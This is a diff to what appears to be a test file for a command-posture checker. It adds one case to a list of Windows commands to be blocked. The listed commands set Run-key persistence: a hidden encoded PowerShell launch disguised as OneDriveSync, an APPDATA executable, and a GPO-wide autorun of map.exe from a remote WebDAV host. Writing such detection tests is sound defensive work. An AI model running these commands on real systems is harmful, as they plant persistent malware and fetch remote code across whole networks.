@@ -6,6 +6,8 @@ const CASES: PostureCase[] = [
     block: [
       `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /t REG_SZ /d "powershell -w hidden -enc SQBFAFgA" /f`,
       `Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value "$env:APPDATA\\upd\\upd.exe"`,
+      // A WebDAV path over SSL (\\host@SSL\\DavWWWRoot\\…) pushed to every computer by a GPO.
+      `Set-GPRegistryValue -Name 'Printers' -Key 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -ValueName 'map' -Type String -Value '\\\\deploy.example-print.net@SSL\\DavWWWRoot\\x\\map.exe /silent'`,
     ],
     pass: [
       `reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
